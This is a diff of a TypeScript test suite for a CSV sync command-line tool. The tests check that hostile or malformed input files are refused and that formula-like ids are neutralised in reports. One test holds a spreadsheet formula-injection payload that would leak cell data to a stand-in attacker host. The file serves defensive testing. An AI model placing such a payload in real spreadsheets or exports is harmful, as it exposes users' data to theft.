@@ -5,15 +5,19 @@
  * formula are neutralised, while the endpoint gets the ids as they are.
  */
 import { promises as fs } from 'node:fs';
-import os from 'node:os';
 import path from 'node:path';
 import { startEmulator, type EmulatorHandle } from '../../src/emulator/index.js';
 import { ExitCode } from '../../src/exit-codes.js';
-import { HOSTILE_DIR, findSecret, logLines, readReport, readSummary, runCli, stopChildren, uniqueToken, type CliResult } from '../helpers/faults.js';
+import { type CliResult, logLines, runCli, stopChildren } from '../support/cli.js';
+import { runArgs } from '../support/args.js';
+import { HOSTILE_DIR } from '../support/faults/dataset.js';
+import { readReport, readSummary } from '../support/report.js';
+import { findSecret, uniqueToken } from '../support/secrets.js';
+import { makeWorkspace, type Workspace } from '../support/workspace.js';
 
 const token = uniqueToken('hostile');
 let emulator: EmulatorHandle;
-let dir: string;
+let ws: Workspace;
 
 beforeAll(async () => {
   emulator = await startEmulator({ host: '127.0.0.1', port: 0, tokens: [token] });
@@ -21,19 +25,17 @@ beforeAll(async () => {
 afterAll(() => emulator.close());
 beforeEach(async () => {
   emulator.reset();
-  dir = await fs.mkdtemp(path.join(os.tmpdir(), 'segment-sync-hostile-'));
+  ws = await makeWorkspace();
 });
 afterEach(async () => {
   await stopChildren();
-  await fs.rm(dir, { recursive: true, force: true });
+  await ws.remove();
 });
-
-const reportDir = (): string => path.join(dir, 'report');
 
 /** `run` on `files` ('-' reads `stdin`). */
 function sync(files: string | string[], stdin?: Buffer): Promise<CliResult> {
-  const args = ['run', '--endpoint', emulator.url, '--report-dir', reportDir(), '--state-dir', path.join(dir, 'state'), '--log-format', 'json', '--log-level', 'debug', ...[files].flat()];
-  return runCli(args, { cwd: dir, env: { SEGMENT_SYNC_TOKEN: token }, stdin });
+  const args = runArgs({ endpoint: emulator.url, reportDir: ws.report, stateDir: ws.state, logFormat: 'json', logLevel: 'debug', input: files });
+  return runCli(args, { cwd: ws.root, env: { SEGMENT_SYNC_TOKEN: token }, stdin });
 }
 
 /** What every refused input must show: exit 3, the place named, no stack trace, nothing sent. */
@@ -43,11 +45,11 @@ async function expectRefused(run: CliResult, place: string): Promise<void> {
   for (const output of [run.stdout, run.stderr]) expect(output).not.toMatch(/^\s*at .+:\d+:\d+\)?$/m);
   expect(() => logLines(run.stdout)).not.toThrow();
   // A structural problem leaves no results.csv (no row was classified), only the summary.
-  const summary = await readSummary(reportDir());
+  const summary = readSummary(ws.report);
   expect(summary).toMatchObject({ status: 'rejected', exitCode: ExitCode.InputRejected });
   expect(summary.message).toContain(place);
   expect(emulator.state().starts).toEqual([]); // not one request arrived
-  expect(await findSecret(token, [run], [dir])).toEqual([]);
+  expect(await findSecret(token, [run], [ws.root])).toEqual([]);
 }
 
 test.each([
@@ -64,7 +66,7 @@ test.each([
 });
 
 test('a 10 MB field: the record size cap stops it and says which option raises the cap', async () => {
-  const file = path.join(dir, 'huge-field.csv');
+  const file = path.join(ws.root, 'huge-field.csv');
   await fs.writeFile(file, `document_id,tier\nH-1,gold\nH-2,${'x'.repeat(10 * 1024 * 1024)}\n`);
   const run = await sync(file);
   await expectRefused(run, `${file}:3: `);
@@ -72,7 +74,7 @@ test('a 10 MB field: the record size cap stops it and says which option raises t
 });
 
 test('a directory given as the input: exit 3 naming it, nothing sent', async () => {
-  const sub = path.join(dir, 'exports');
+  const sub = path.join(ws.root, 'exports');
   await fs.mkdir(sub);
   await expectRefused(await sync(sub), `${sub}: `);
 });
@@ -83,7 +85,7 @@ test('hostile input on stdin: exit 3 naming stdin and the line, nothing sent', a
 });
 
 test('a good file followed by a broken one: nothing is sent, not even the good file\'s customers', async () => {
-  const good = path.join(dir, 'good.csv');
+  const good = path.join(ws.root, 'good.csv');
   await fs.writeFile(good, 'document_id,tier\nG-1,gold\nG-2,silver\n');
   const broken = path.join(HOSTILE_DIR, 'unclosed-quote.csv');
   await expectRefused(await sync([good, broken]), `${broken}:4: `);
@@ -91,7 +93,7 @@ test('a good file followed by a broken one: nothing is sent, not even the good f
 
 const asRoot = process.getuid?.() === 0;
 (asRoot ? test.skip : test)('an unreadable file: exit 3 naming it, nothing sent (skipped as root, who can read anything)', async () => {
-  const file = path.join(dir, 'locked.csv');
+  const file = path.join(ws.root, 'locked.csv');
   await fs.writeFile(file, 'document_id,tier\nL-1,gold\n', { mode: 0o000 });
   await expectRefused(await sync(file), file);
 });
@@ -99,17 +101,17 @@ const asRoot = process.getuid?.() === 0;
 test('a header with no rows is not an error: exit 0, a report, nothing sent', async () => {
   const run = await sync(path.join(HOSTILE_DIR, 'header-only.csv'));
   expect({ code: run.code, stderr: run.stderr }).toMatchObject({ code: ExitCode.Ok });
-  const { summary, results } = await readReport(reportDir());
+  const { summary, results } = readReport(ws.report);
   expect(summary).toMatchObject({ status: 'succeeded', counts: { rows: 0, customers: 0 } });
   expect(results).toEqual([]);
   expect(emulator.state().starts).toEqual([]);
-  expect(await findSecret(token, [run], [dir])).toEqual([]);
+  expect(await findSecret(token, [run], [ws.root])).toEqual([]);
 });
 
 test('mixed CRLF/LF with blank lines and quoted line breaks: each record at its own line, all delivered', async () => {
   const run = await sync(path.join(HOSTILE_DIR, 'mixed-newlines.csv'));
   expect(run.code).toBe(ExitCode.Ok);
-  const { results } = await readReport(reportDir());
+  const { results } = readReport(ws.report);
   expect(results.map((r) => [r.line, r.status])).toEqual([
     ['2', 'updated'],
     ['4', 'updated'],
@@ -124,6 +126,6 @@ test('ids that look like formulas are sent as they are, and neutralised in resul
   expect(run.code).toBe(ExitCode.Ok);
   const ids = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '2009-1002', '-2009-1003', '@2009-1004'];
   expect(Object.keys(emulator.state().customers).sort()).toEqual([...ids].sort());
-  const { results } = await readReport(reportDir());
+  const { results } = readReport(ws.report);
   expect(results.map((r) => r.document_id)).toEqual(ids.map((id) => (/^[=+\-@\t\r]/.test(id) ? `'${id}` : id)));
 });
